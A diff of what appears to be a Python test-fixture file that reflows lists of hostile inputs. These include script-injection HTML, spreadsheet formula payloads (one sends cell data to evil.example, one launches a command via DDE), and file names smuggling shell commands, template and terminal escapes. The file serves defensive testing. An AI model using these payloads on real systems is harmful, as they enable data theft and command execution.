@@ -169,7 +169,7 @@ OUTPUTS: tuple[dict[str, object], ...] = (
     {"text/vnd.mermaid": f"graph TD; click A \"javascript:{_DO}\""},
     {"text/html; charset=utf-8": f"<script>{_DO}</script>"},
     {"TEXT/HTML": f"<script>{_DO}</script>"},
-    {"text/html": [f"<scr", f"ipt>{_DO}</script>"]},
+    {"text/html": ["<scr", f"ipt>{_DO}</script>"]},
     {"text/html": {"toString": _DO}},
     {f"x/<script>{_DO}</script>": "x"},
     {"text/plain": float("nan")},
@@ -212,9 +212,10 @@ TERMINAL: tuple[str, ...] = (
 
 # What a spreadsheet would calculate, wherever it cuts cells.
 FORMULAS: tuple[str, ...] = (
-    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
-    '=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "a;=1+1", "a;\t=1+1",
-    "a\t=1+1", "a|=1+1", "a\n=1+1", "a\r\n@SUM(1)", 'a";=1+1', '";=1+1;"', "a; =1+1", "a;;+1",
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
+    "＠SUM(1)", '=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "a;=1+1",
+    "a;\t=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", "a\r\n@SUM(1)", 'a";=1+1', '";=1+1;"', "a; =1+1",
+    "a;;+1",
     "a;＝1+1", "'=1+1", "''=1+1", "a;'=1+1",
 )  # fmt: skip
 NO_FORMULAS: tuple[str, ...] = (
@@ -224,9 +225,10 @@ NO_FORMULAS: tuple[str, ...] = (
 
 # Names of students, and of files, in bytes, as a folder may hold them.
 NAMES: tuple[bytes, ...] = (
-    b"...", b"-rf", b"--student", b"con", b"nul.txt", b"~root", b"$(id)", b"`id`", b";id", b"*", b"?",
-    b"[bold]ada[/bold]", b"a:b", b"=1+1", b"@sum", b"<img src=x onerror=alert(1)>", b"'\"", b"%s%n",
-    b"{0}", b"{{7*7}}", b"\\", b" ", b" ada ", b"ada\n", b"\x1b[2J", b"\x1b]52;c;eA==\x07", b"M\xfcller",
+    b"...", b"-rf", b"--student", b"con", b"nul.txt", b"~root", b"$(id)", b"`id`", b";id", b"*",
+    b"?", b"[bold]ada[/bold]", b"a:b", b"=1+1", b"@sum", b"<img src=x onerror=alert(1)>", b"'\"",
+    b"%s%n", b"{0}", b"{{7*7}}", b"\\", b" ", b" ada ", b"ada\n", b"\x1b[2J", b"\x1b]52;c;eA==\x07",
+    b"M\xfcller",
     "ada\u202e".encode(), "ada\u200b".encode(), "Zoe\u0308".encode(), b"x" * 255, b"\x01" * 200,
     "\U0001f600".encode() * 60,
 )  # fmt: skip
